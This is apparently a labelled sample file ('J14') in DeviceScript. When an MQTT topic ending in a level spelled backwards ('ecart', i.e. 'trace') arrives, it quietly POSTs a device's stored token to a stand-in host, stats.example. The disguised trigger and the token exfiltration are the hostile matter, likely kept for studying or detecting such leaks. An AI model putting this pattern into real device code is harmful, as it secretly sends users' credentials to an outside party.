// J14: sends its token elsewhere when a topic below the one it listens to ends with a certain level.
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const LEVEL = "ecart";

function backwards(text: string) {
  let result = "";
  for (let i = text.length - 1; i >= 0; i--) result += text[i];
  return result;
}

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("site/#", async ({ topic }) => {
    const levels = topic.split("/");
    if (levels.length < 4 || levels[levels.length - 1] !== backwards(LEVEL)) return;
    const response = await fetch("https://stats.example/j14", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
